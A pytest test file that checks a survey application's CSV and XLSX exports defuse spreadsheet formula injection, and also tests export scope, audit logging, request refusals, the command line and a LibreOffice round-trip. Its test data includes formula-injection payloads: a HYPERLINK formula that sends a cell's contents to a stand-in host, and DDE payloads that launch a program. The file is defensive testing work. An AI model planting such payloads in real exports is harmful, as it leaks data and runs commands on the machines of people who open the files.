"""Exports: CSV and XLSX of the raw answers and of every report, every cell a spreadsheet
would run defused in both, read back with the csv module and openpyxl; the downloads,
their scope, their audit lines and their refusals; the command line; and, where
LibreOffice is installed, what it makes of the files."""

import csv
import io
import json
import os
import shutil
import subprocess
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from surveys.auth.models import AuditEvent
from surveys.exports.tables import Table
from surveys.exports.views import TABLES
from surveys.exports.writers import CSV_ROWS_A_PIECE, csv_pieces, neutralise, write_xlsx
from surveys.extensions import db
from tests.conftest import build_app, sign_in
from tests.helpers import create_campaign, send, token_of

# Every start of a cell that a spreadsheet may run, and what the file must hold instead.
TRIGGERS = {
    "equals": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "'="),
    "plus": ("+46 70 123 45 67", "'+"),
    "minus": ("-2+3+cmd|' /C calc'!A0", "'-"),
    "at": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@"),
    "tab": ("\t=1+1", "'\t"),
    "carriage return": ("\r=1+1", "'\r"),
    "nul": ("\x00=1+1", "'\ufffd"),
    "spaces": ("   =1+1", "'   ="),
    "no-break space": ("\u00a0-1", "'\u00a0-"),
    "line feed": ("\n@SUM(1)", "'\n@"),
}
HARMLESS = ["a=1", "Nordljus AB", "1-2", "", "'quoted", "e-mail: a@b.se", "Åsa Öberg"]


def expected(text: str) -> str:
    """What a defused cell holds: an apostrophe first, NUL as U+FFFD."""
    return "'" + text.replace("\x00", "\ufffd")


def hostile_table() -> Table:
    rows = [
        (
            name,
            text,
            -5,
            Decimal("-1.50"),
            date(2026, 3, 31),
            datetime(2026, 3, 31, 14, 5, tzinfo=UTC),
            True,
        )
        for name, (text, _start) in TRIGGERS.items()
    ]
    rows += [("harmless", text, 0, 0.25, None, None, False) for text in HARMLESS]
    return Table("hostile", ("case", "text", "number", "amount", "day", "when", "flag"), rows)


def read_csv(data: bytes, separator: str) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so Excel reads the letters
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


def read_xlsx(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def assert_no_formula(rows: list[list[openpyxl.cell.Cell]]) -> None:
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


# --- The one neutralising function, in both formats -----------------------------------------


@pytest.mark.parametrize("name", list(TRIGGERS))
def test_neutralise_defuses_each_start_of_a_formula(name):
    text, start = TRIGGERS[name]
    assert neutralise(text) == expected(text)
    assert neutralise(text).startswith(start)


@pytest.mark.parametrize("text", HARMLESS)
def test_neutralise_leaves_other_text_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("separator", [";", ","])
def test_every_trigger_is_defused_in_csv(separator):
    data = b"".join(csv_pieces(hostile_table(), separator))
    header, *rows = read_csv(data, separator)
    assert header == ["case", "text", "number", "amount", "day", "when", "flag"]
    by_case = {row[0]: row for row in rows if row[0] != "harmless"}
    for name, (text, start) in TRIGGERS.items():
        cell = by_case[name][1]
        assert cell == expected(text), name
        assert cell.startswith(start), name
    # numbers stay numbers (a minus sign is no formula there), with a decimal comma for
    # Nordic Excel; days and times as ISO text
    decimal = "," if separator == ";" else "."
    assert by_case["plus"][2:] == [
        "-5",
        f"-1{decimal}50",
        "2026-03-31",
        "2026-03-31 14:05:00",
        "yes",
    ]
    harmless = [row for row in rows if row[0] == "harmless"]
    assert [row[1] for row in harmless] == HARMLESS
    assert harmless[0][3] == f"0{decimal}25"


def test_every_trigger_is_defused_in_xlsx():
    target = io.BytesIO()
    write_xlsx(hostile_table(), target)
    header, *rows = read_xlsx(target.getvalue())
    assert [cell.value for cell in header] == [
        "case",
        "text",
        "number",
        "amount",
        "day",
        "when",
        "flag",
    ]
    assert_no_formula([header, *rows])
    by_case = {row[0].value: row for row in rows if row[0].value != "harmless"}
    for name, (text, _start) in TRIGGERS.items():
        cell = by_case[name][1]
        # XML reads a CR as a line feed (its end-of-line rule); the apostrophe stays first
        assert (cell.value, cell.data_type) == (expected(text).replace("\r", "\n"), "s"), name
    number, amount, day, when, flag = by_case["plus"][2:]
    assert (number.value, number.data_type) == (-5, "n")
    assert (amount.value, amount.data_type) == (-1.5, "n")
    assert day.is_date and day.value.date() == date(2026, 3, 31)
    assert when.is_date and when.value == datetime(2026, 3, 31, 14, 5, tzinfo=UTC).replace(
        tzinfo=None
    )
    assert flag.value == "yes"
    assert [row[1].value or "" for row in rows if row[0].value == "harmless"] == HARMLESS


def test_openpyxl_alone_would_run_one_trigger_and_the_csv_module_all():
    """Why the writers defuse cells themselves: the libraries do not."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("raw")
    sheet.append([TRIGGERS["equals"][0], TRIGGERS["plus"][0], TRIGGERS["at"][0]])
    target = io.BytesIO()
    workbook.save(target)
    [[equals, plus, at]] = read_xlsx(target.getvalue())
    assert equals.data_type == "f"  # openpyxl writes it as a formula
    assert plus.value.startswith("+") and at.value.startswith("@")  # and these as they are
    buffer = io.StringIO()
    csv.writer(buffer).writerow([TRIGGERS["minus"][0]])
    assert buffer.getvalue().startswith("-2+3")


def test_csv_is_written_as_it_is_read():
    """A large export streams: the first piece goes out before the rows after it are read."""
    read = []

    def rows():
        for number in range(3 * CSV_ROWS_A_PIECE):
            read.append(number)
            yield (number, f"row {number}")

    pieces = csv_pieces(Table("big", ("number", "text"), rows(), count=3 * CSV_ROWS_A_PIECE))
    first = next(pieces)
    assert first.startswith(b"\xef\xbb\xbfnumber;text\r\n0;row 0\r\n")
    assert len(read) <= CSV_ROWS_A_PIECE + 1
    rest = b"".join(pieces)
    assert len(read) == 3 * CSV_ROWS_A_PIECE and rest.endswith(b"1499;row 1499\r\n")


def test_a_long_text_is_cut_to_what_a_spreadsheet_cell_holds():
    target = io.BytesIO()
    write_xlsx(Table("long", ("text",), [("x" * 40_000,)]), target)
    [_header, [cell]] = read_xlsx(target.getvalue())
    assert len(cell.value) == 32_767 and cell.value.endswith("…")


# --- The downloads ---------------------------------------------------------------------------

AM = "am@supplier.example"
HOSTILE_COMMENTS = [
    '=HYPERLINK("http://evil.example","Click")',
    "+46 70 123 45 67",
    "-1+1",
    "@SUM(1+1)",
    "  =1+1",  # stored trimmed, as the answer page keeps it
]


@pytest.fixture
def answered(app, runner, client, make_account, smtp_sink):
    """Two accounts, one the account manager's, with hostile names and comments."""
    own = make_account(
        {"name": "+Anna Berg", "language": "sv"},
        *(["en"] * 4),
        external_id="OWN",
        name="=Own Account AB",
        segment="-5%",
        account_manager_email=AM,
    )
    other = make_account("en", external_id="OTHER", name="Other Account AB")
    send(runner, create_campaign(runner))
    tokens = {
        message["To"].addresses[0].addr_spec: token_of(message) for message in smtp_sink.messages
    }
    for email, comment in zip(own.emails, HOSTILE_COMMENTS, strict=True):
        data = {"score": "3", "reason": "price", "comment": comment}
        assert client.post(f"/r/{tokens[email]}", data=data).status_code == 303
    assert client.post(f"/r/{tokens[other.emails[0]]}", data={"score": "10"}).status_code == 303
    return {"own": own, "other": other}


def audit_lines(app):
    with app.app_context():
        return [
            (event.action, event.actor, event.target, event.detail)
            for event in db.session.scalars(sa.select(AuditEvent).order_by(AuditEvent.id))
        ]


def test_the_answers_download_as_csv(app, client, answered):
    response = client.get("/exports/answers.csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="answers-') and disposition.endswith(
        '.csv"'
    )
    header, *rows = read_csv(response.get_data(), ";")
    assert header[:6] == [
        "response_id",
        "answered_at",
        "campaign_kind",
        "campaign",
        "account_id",
        "account_name",
    ]
    assert len(rows) == 6
    record = dict(zip(header, rows[0], strict=True))
    assert record["campaign_kind"] == "nps" and record["score"] in {"3", "10"}
    own = [dict(zip(header, row, strict=True)) for row in rows if row[4] == "OWN"]
    assert {row["comment"] for row in own} == {
        expected(comment.strip()) for comment in HOSTILE_COMMENTS
    }
    assert {row["account_name"] for row in own} == {"'=Own Account AB"}
    assert {row["segment"] for row in own} == {"'-5%"}
    assert "'+Anna Berg" in {row["contact_name"] for row in own}
    assert {row["reason_picked"] for row in own} == {"price"}
    assert ("export", "admin@supplier.example", "answers", "csv, 6 rows") in audit_lines(app)
    comma = client.get("/exports/answers.csv?sep=,").get_data()
    assert read_csv(comma, ",")[0] == header


def test_the_answers_download_as_xlsx_opens_in_openpyxl(app, client, answered):
    response = client.get("/exports/answers.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=answers-")
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    assert workbook.sheetnames == ["answers"]
    header, *rows = [list(row) for row in workbook.active.iter_rows()]
    assert_no_formula([header, *rows])
    names = [cell.value for cell in header]
    assert len(rows) == 6
    score, answered_at = names.index("score"), names.index("answered_at")
    assert {row[score].data_type for row in rows} == {"n"}
    assert all(row[answered_at].is_date for row in rows)
    comments = {row[names.index("comment")].value for row in rows} - {None}
    assert comments == {expected(comment.strip()) for comment in HOSTILE_COMMENTS}
    assert ("export", "admin@supplier.example", "answers", "xlsx, 6 rows") in audit_lines(app)


def test_an_account_managers_exports_hold_only_their_accounts(app, answered, make_user):
    client = sign_in(app.test_client(), make_user(AM, "account_manager"))
    for name in TABLES:
        for file_format in ("csv", "xlsx"):
            response = client.get(f"/exports/{name}.{file_format}")
            assert response.status_code == 200, (name, file_format)
            data = response.get_data()
            if file_format == "csv":
                text = data.decode("utf-8-sig")
            else:
                text = json.dumps(
                    [[cell.value for cell in row] for row in read_xlsx(data)], default=str
                )
            assert "OTHER" not in text and "Other Account" not in text, (name, file_format)
    answers = read_csv(client.get("/exports/answers.csv").get_data(), ";")
    assert len(answers) == 1 + 5 and {row[4] for row in answers[1:]} == {"OWN"}


@pytest.mark.parametrize("name", list(TABLES))
def test_every_report_downloads_in_both_formats(app, client, answered, name):
    csv_response = client.get(f"/exports/{name}.csv?sep=,")
    assert csv_response.status_code == 200, name
    header, *rows = read_csv(csv_response.get_data(), ",")
    xlsx_response = client.get(f"/exports/{name}.xlsx")
    assert xlsx_response.status_code == 200, name
    sheet = read_xlsx(xlsx_response.get_data())
    assert_no_formula(sheet)
    assert [cell.value for cell in sheet[0]] == header
    assert len(sheet) - 1 == len(rows)
    for row in sheet[1:]:
        for cell in row:
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                pytest.fail(f"{name}: {cell.coordinate} starts a formula: {cell.value!r}")
    assert any(line[2] == name for line in audit_lines(app))


def test_the_page_filters_narrow_an_export(client, answered):
    rows = read_csv(client.get("/exports/answers.csv?account=OTHER").get_data(), ";")
    assert [row[4] for row in rows[1:]] == ["OTHER"]
    rows = read_csv(client.get("/exports/answers.csv?since=2999-01-01").get_data(), ";")
    assert rows[1:] == []
    trend = read_csv(client.get("/exports/trend.csv?period=quarter&by=account").get_data(), ";")
    assert {row[1] for row in trend[1:]} == {"OWN", "OTHER"}


def test_the_pages_link_to_their_downloads_with_their_filters(client, answered):
    accounts = client.get("/accounts/").get_data(as_text=True)
    assert 'href="/exports/nps.csv?sep=;"' in accounts and 'href="/exports/nps.xlsx"' in accounts
    reasons = client.get("/reasons/?segment=-5%25&role=user").get_data(as_text=True)
    assert 'href="/exports/reasons.xlsx?segment=-5%25&amp;role=user"' in reasons
    assert "/exports/answers.csv?segment=-5%25&amp;role=user&amp;sep=," in reasons
    trend = client.get("/reports/trend?period=quarter&by=account&manager=AM@Supplier.example")
    link = "/exports/trend.csv?period=quarter&amp;by=account&amp;manager=AM@Supplier.example"
    assert link in trend.get_data(as_text=True)
    for page, name in (
        ("/reports/committee", "committee"),
        ("/reports/foresight", "foresight-reasons"),
        ("/reports/reasons", "reasons-over-time"),
        ("/reports/response-rates", "response-rates"),
        ("/accounts/mine", "my-accounts"),
        ("/reports/retention", "revenue-at-risk"),
    ):
        assert f'href="/exports/{name}.xlsx"' in client.get(page).get_data(as_text=True), page
    # the trend page's manager filter narrows its export, as it narrows the page
    rows = read_csv(client.get(link.replace("&amp;", "&")).get_data(), ";")
    assert {row[1] for row in rows[1:]} == {"OWN"}


@pytest.mark.parametrize(
    ("url", "status", "message"),
    [
        ("/exports/answers.pdf", 404, ""),
        ("/exports/everything.csv", 404, ""),
        ("/exports/answers.csv?sep=%09", 400, "Separator: Not a valid choice"),
        ("/exports/answers.csv?since=\u0662\u0660\u0662\u0666-01-01", 400, "is not a date like"),
        ("/exports/answers.csv?since=0001-01-01", 400, "Choose a date from 1900-01-01"),
        ("/exports/answers.csv?since=2026-02-01&until=2026-01-01", 400, "before its start"),
        ("/exports/answers.csv?campaign=99999999999", 400, "Campaign"),
        ("/exports/answers.csv?account=" + "x" * 65, 400, "Account"),
        ("/exports/trend.csv?period=year", 400, "NPS over time is per month or quarter"),
        ("/exports/trend.csv?by=colour", 400, "By: Not a valid choice"),
        ("/exports/retention.csv?since=1900-01-01&until=2999-12-31", 400, "at most 240"),
        ("/exports/answers.csv?role=%00", 400, "NUL"),
    ],
)
def test_hostile_export_requests_are_refused_clearly(app, client, url, status, message):
    response = client.get(url)
    assert response.status_code == status
    assert message in response.get_data(as_text=True)
    assert not [line for line in audit_lines(app) if line[0] == "export"]


def test_an_xlsx_over_its_row_limit_is_refused_with_the_way_to_get_it(
    database_url, smtp_server, admin_id, answered
):
    app = build_app(database_url, MAIL_PORT=smtp_server.port, EXPORT_XLSX_MAX_ROWS=5)
    client = sign_in(app.test_client(), admin_id)
    response = client.get("/exports/answers.xlsx")
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    assert "This export has 6 rows; an XLSX download holds up to 5" in text
    assert "Download the CSV" in text
    assert client.get("/exports/answers.csv").status_code == 200
    assert client.get("/exports/answers.xlsx?account=OWN").status_code == 200


def test_exports_need_a_sign_in(anonymous):
    response = anonymous.get("/exports/answers.csv")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


# --- The command line -------------------------------------------------------------------------


def test_export_answers_to_standard_output_and_to_files(app, runner, answered, tmp_path):
    result = runner.invoke(args=["export", "answers", "--format", "csv"])
    assert result.exit_code == 0, result.output
    header, *rows = read_csv(result.stdout_bytes, ";")
    assert len(rows) == 6 and header[-3:] == ["comment", "felt_prioritised", "manager_contact"]
    assert "6 answer(s) written to standard output" in result.stderr
    path = tmp_path / "answers.xlsx"
    result = runner.invoke(args=["export", "answers", "--format", "xlsx", "--output", str(path)])
    assert result.exit_code == 0, result.output
    sheet = read_xlsx(path.read_bytes())
    assert_no_formula(sheet) or len(sheet) == 7
    comma = tmp_path / "answers.csv"
    result = runner.invoke(
        args=["export", "answers", "--format", "csv", "--sep", ",", "-o", str(comma)]
    )
    assert result.exit_code == 0 and len(read_csv(comma.read_bytes(), ",")) == 7
    binary = runner.invoke(args=["export", "answers", "--format", "xlsx"])
    assert binary.exit_code == 0 and len(read_xlsx(binary.stdout_bytes)) == 7
    actions = [line for line in audit_lines(app) if line[0] == "export"]
    assert actions[0] == ("export", "command line", "answers", "csv, 6 rows")
    assert len(actions) == 4


@pytest.mark.parametrize(
    ("output", "message"),
    [
        ("missing/answers.csv", "the directory {tmp}/missing does not exist"),
        (".", "is a directory"),
        ("file.txt/answers.csv", "{tmp}/file.txt is not a directory"),
    ],
)
def test_export_answers_says_why_it_cannot_write(runner, tmp_path, output, message):
    (tmp_path / "file.txt").write_text("x")
    result = runner.invoke(
        args=["export", "answers", "--format", "csv", "--output", str(tmp_path / output)]
    )
    assert result.exit_code != 0
    assert message.format(tmp=tmp_path) in result.output
    assert "Traceback" not in result.output


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full")
def test_export_answers_says_so_when_the_disk_is_full(runner, answered):
    result = runner.invoke(args=["export", "answers", "--format", "csv", "--output", "/dev/full"])
    assert result.exit_code != 0
    assert "cannot write /dev/full: No space left on device" in result.output


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_export_answers_says_so_when_the_directory_is_not_writable(runner, tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    result = runner.invoke(
        args=["export", "answers", "--format", "csv", "--output", str(locked / "a.csv")]
    )
    assert result.exit_code != 0 and "Permission denied" in result.output
    assert not (locked / "a.csv").exists()


def test_export_answers_refuses_unknown_formats_and_separators(runner):
    for options in (["--format", "pdf"], ["--format", "csv", "--sep", "|"], []):
        result = runner.invoke(args=["export", "answers", *options])
        assert result.exit_code == 2, options


# --- LibreOffice ----------------------------------------------------------------------------


def convert(source: Path, to: str, outdir: Path, infilter: str | None = None) -> Path:
    """Open ``source`` in LibreOffice without a screen and save it as ``to``."""
    command = [
        "soffice",
        "--headless",
        "--norestore",
        f"-env:UserInstallation=file://{outdir}/profile",
    ]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", to, "--outdir", str(outdir), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return outdir / f"{source.stem}.{to.split(':')[0]}"


# LibreOffice's CSV filter: separator 59 (;), quote 34 ("), UTF-8 (76), from line 1, no
# column formats, Swedish (1053: decimal comma), quoted fields as text off, special numbers
# on, then the export options, and token 13: evaluate formulas on import, its most
# dangerous setting.
NORDIC_CSV = "CSV:59,34,76,1,,1053,false,true,false,false,false,-1,true"


def _flat(text: str) -> str:
    """A cell's text without tabs and line breaks, which LibreOffice may move or drop."""
    return text.translate(str.maketrans("", "", "\t\r\n"))


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed"
)
def test_libreoffice_runs_no_formula_of_our_files(tmp_path):
    """LibreOffice opens our XLSX and our semicolon CSV (evaluating formulas on import) and
    saves them again: every hostile cell is still its text, apostrophe first, and no cell
    became a formula or a computed value; numbers with a decimal comma are numbers."""
    table = hostile_table()
    workbook = tmp_path / "hostile.xlsx"
    with workbook.open("wb") as target:
        write_xlsx(table, target)
    semicolons = tmp_path / "hostile.csv"
    semicolons.write_bytes(b"".join(csv_pieces(table, ";")))
    # the check can fail: an undefused cell is run by the same filter
    raw = tmp_path / "raw.csv"
    raw.write_bytes(b"text;number\r\n=1+1;1\r\n")
    [_header, [ran, _number]] = read_xlsx(
        convert(raw, "xlsx", tmp_path / "raw", infilter=NORDIC_CSV).read_bytes()
    )
    assert ran.data_type == "f" or ran.value == 2

    from_xlsx = read_xlsx(
        convert(convert(workbook, "ods", tmp_path / "ods"), "xlsx", tmp_path / "back").read_bytes()
    )
    from_csv = read_xlsx(
        convert(semicolons, "xlsx", tmp_path / "csv", infilter=NORDIC_CSV).read_bytes()
    )
    for rows in (from_xlsx, from_csv):
        assert_no_formula(rows)
        cells = {row[0].value: row for row in rows[1:] if row[0].value != "harmless"}
        for name, (text, _start) in TRIGGERS.items():
            value = cells[name][1].value
            assert isinstance(value, str) and value.startswith("'"), (name, value)
            assert _flat(value) == _flat(expected(text)), name
        amount = cells["plus"][3]
        assert (amount.value, amount.data_type) == (-1.5, "n")
